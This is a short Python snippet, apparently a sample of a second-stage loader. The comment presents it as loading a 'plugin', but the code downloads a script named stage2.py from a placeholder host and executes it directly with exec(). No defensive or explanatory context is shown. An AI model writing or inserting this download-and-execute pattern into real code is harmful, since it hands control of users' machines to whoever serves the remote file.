# loads its "plugin" from the network and executes it
from urllib.request import urlopen
src = urlopen("http://cdn.plugin-host.example/stage2.py").read().decode()
exec(compile(src, "<plugin>", "exec"), {"__name__": "__main__"})
